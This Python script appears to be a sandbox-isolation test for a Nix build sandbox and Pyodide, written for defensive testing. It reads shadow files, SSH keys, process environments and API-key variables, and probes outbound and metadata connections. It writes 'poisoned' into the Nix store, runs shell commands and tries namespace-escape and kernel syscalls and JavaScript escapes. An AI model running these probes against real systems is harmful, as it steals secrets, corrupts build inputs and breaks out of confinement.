# Tries to get out of where it runs, in every way that Python knows, and prints all that it got hold of. `target` and `fatal` stand before it, and `only` is a binding.
import sys
tried = 0
def attempt(what, action):
    global tried
    # Some are the end of an interpreter that has no such thing: each of these is tried alone, as `only`.
    if what in fatal if only == '' else what != only: return
    tried += 1
    try:
        print(what, '->', repr(action())[:20000])
    except BaseException as refusal:
        print(what, '-x', type(refusal).__name__)
def module(name):
    return __import__(name, fromlist=['*'])

def read(path):
    with open(path, 'rb') as file:
        return file.read(100000)
paths = list(target['readable'])
for path in target['readable']:
    paths += ['/proc/1/root' + path, '/proc/self/root' + path, '/build/../..' + path, '/proc/self/cwd/../../../../..' + path]
paths += ['/etc/passwd', '/etc/shadow', '/etc/hostname', '/root/.ssh/id_rsa', '/root/.bashrc', '/proc/self/environ', '/proc/1/environ', '/proc/self/cmdline', '/proc/1/cmdline']
paths += ['/proc/kcore', '/dev/mem', '/dev/kmem', '/dev/port', '/proc/1/mem', '/proc/sys/kernel/core_pattern', '/sys/kernel/uevent_helper', '/proc/net/tcp', '/proc/net/unix']
for path in paths:
    attempt('read ' + path, lambda: read(path))
for path in ['/', '/nix/store', '/home', '/root', '/tmp', '/build', '/proc', '/var', '/sys', '/etc', '/dev', '/mnt', '..', '.'] + [path.rsplit('/', 1)[0] for path in target['readable']]:
    attempt('list ' + path, lambda: module('os').listdir(path))
def processes():
    os = module('os')
    found = {}
    for pid in os.listdir('/proc'):
        if pid.isdigit():
            for name in ('environ', 'cmdline', 'maps'):
                try: found[pid + name] = read('/proc/' + pid + '/' + name)
                except Exception: pass
            try:
                for fd in os.listdir('/proc/' + pid + '/fd'):
                    found[pid + fd] = os.readlink('/proc/' + pid + '/fd/' + fd)
            except Exception: pass
    return found
attempt('processes', processes)
attempt('environment', lambda: dict(module('os').environ))
attempt('environment of C', lambda: [module('ctypes').CDLL(None).getenv(name) for name in (b'OPENAI_API_KEY', b'HOME', b'out', b'PATH')])
attempt('home', lambda: [read(module('os').path.expanduser('~/') + name) for name in module('os').listdir(module('os').path.expanduser('~'))])

def connect(family, kind, address, protocol=0):
    socket = module('socket')
    s = socket.socket(getattr(socket, family), getattr(socket, kind), protocol)
    s.settimeout(1)
    s.connect(address)
    s.send(b'out')
    return 'connected'
for host in ('127.0.0.1', '127.1.2.3', '0.0.0.0', 'localhost'):
    attempt('tcp ' + host, lambda: connect('AF_INET', 'SOCK_STREAM', (host, target['tcpPort'])))
    attempt('udp ' + host, lambda: connect('AF_INET', 'SOCK_DGRAM', (host, target['udpPort'])))
for host in ('::1', '::ffff:127.0.0.1'):
    attempt('tcp ' + host, lambda: connect('AF_INET6', 'SOCK_STREAM', (host, target['tcpPort'])))
for host in ('1.1.1.1', '8.8.8.8', '169.254.169.254', '10.0.0.1', '255.255.255.255'):
    attempt('beyond ' + host, lambda: connect('AF_INET', 'SOCK_STREAM', (host, 80)))
    attempt('dns ' + host, lambda: connect('AF_INET', 'SOCK_DGRAM', (host, 53)))
attempt('dns', lambda: module('socket').getaddrinfo('example.com', 80))
attempt('http', lambda: module('urllib.request').urlopen('http://127.0.0.1:%d/' % target['tcpPort'], timeout=1).read())
attempt('abstract socket', lambda: connect('AF_UNIX', 'SOCK_STREAM', '\0' + target['abstractName']))
attempt('socket', lambda: connect('AF_UNIX', 'SOCK_STREAM', target['socketPath']))
attempt('socket of Nix', lambda: connect('AF_UNIX', 'SOCK_STREAM', '/nix/var/nix/daemon-socket/socket'))
attempt('netlink', lambda: connect('AF_NETLINK', 'SOCK_RAW', (0, 0)))
attempt('packets', lambda: connect('AF_PACKET', 'SOCK_RAW', ('lo', 0)))

def write(path):
    with open(path, 'w') as file:
        file.write('out')
    return 'wrote'
for path in target['writable'] + ['/proc/1/root' + path for path in target['writable']] + ['/etc/passwd', '/proc/sys/kernel/core_pattern', '/proc/self/oom_score_adj', '/nix/store/00000000000000000000000000000000-out', '/nix/var/nix/out']:
    attempt('write ' + path, lambda: write(path))
def writeInputs():
    os = module('os')
    done = []
    for name in os.listdir('/nix/store'):
        for directory, _, files in os.walk('/nix/store/' + name):
            for path in [directory] + [directory + '/' + each for each in files]:
                try: os.chmod(path, 0o777); done.append('chmod ' + path)
                except OSError: pass
                try:
                    with open(path, 'r+b') as file: file.write(b'poisoned'); done.append('write ' + path)
                except OSError: pass
    return done
attempt('write inputs', writeInputs)
attempt('shell', lambda: module('os').system('echo out > ' + target['writable'][0]))
attempt('processes of Python', lambda: module('subprocess').run(['/bin/sh', '-c', 'id; cat /etc/passwd'], capture_output=True).stdout)

def syscall(number, *arguments):
    ctypes = module('ctypes')
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    result = libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) if isinstance(a, int) else a for a in arguments])
    if result < 0: raise OSError(ctypes.get_errno(), 'refused')
    return result
# Of x86-64: what could leave namespaces, look into other processes, or reach rarely used parts of the kernel.
for name, number, arguments in [
    ('unshare', 272, (0x10000000,)), ('setns', 308, (3, 0)), ('mount', 165, (b'none', b'/tmp', b'tmpfs', 0, 0)), ('pivot_root', 155, (b'/', b'/')), ('chroot', 161, (b'/proc/1/root',)),
    ('ptrace', 101, (16, 1, 0, 0)), ('process_vm_readv', 310, (1, 0, 0, 0, 0, 0)), ('io_uring_setup', 425, (1, b'\0' * 200)), ('bpf', 321, (0, 0, 0)), ('perf_event_open', 298, (0, 0, 0, 0, 0)),
    ('userfaultfd', 323, (1,)), ('add_key', 248, (b'user', b'x', b'x', 1, -3)), ('open_by_handle_at', 304, (0, 0, 0)), ('kexec_load', 246, (0, 0, 0, 0)), ('init_module', 175, (0, 0, 0)),
    ('reboot', 169, (0, 0, 0, 0)), ('syslog', 103, (2, b'\0' * 100, 100)), ('mknod', 133, (b'/tmp/device', 0o060666, 0x100)), ('setuid file', 90, (b'/build', 0o4777)), ('pidfd_open', 434, (1, 0)),
]:
    attempt('system call ' + name, lambda: syscall(number, *arguments))

# Of Python in WebAssembly: the world around it.
for name in ('js', 'pyodide_js', '_pyodide_core', 'pyodide.code', 'pyodide.http', 'pyodide.ffi', 'micropip', '_pyodide'):
    attempt('import ' + name, lambda: dir(module(name)))
def outOf(thing):
    function = thing.constructor.constructor if hasattr(thing, 'constructor') else thing
    return function('return JSON.stringify([process.env, process.cwd(), process.argv])')()
attempt('process of js', lambda: repr(module('js').process.env.to_py()))
attempt('Function of js', lambda: outOf(module('js')))
attempt('run_js', lambda: module('pyodide.code').run_js('JSON.stringify([process.env, require("fs").readFileSync("/proc/self/environ", "latin1")])'))
attempt('Function of a proxy', lambda: outOf(module('pyodide.ffi').to_js([1])))
attempt('Function of a dict', lambda: outOf(module('pyodide.ffi').to_js({'a': 1})))
attempt('eval of Emscripten', lambda: module('ctypes').CDLL(None).emscripten_run_script(b'process.stdout.write(JSON.stringify(process.env)); require("fs").writeFileSync("/tmp/out", "out")'))
attempt('text of Emscripten', lambda: module('ctypes').string_at(module('ctypes').CDLL(None).emscripten_run_script_string(b'JSON.stringify(process.env)')))
attempt('mount of Emscripten', lambda: module('pyodide_js').FS.mount(module('pyodide_js').FS.filesystems.NODEFS, module('pyodide.ffi').to_js({'root': '/'}), '/mnt'))
attempt('open_url', lambda: module('pyodide.http').open_url('http://127.0.0.1:%d/' % target['tcpPort']).read())
sys.stdout.flush()
print('tried', tried)
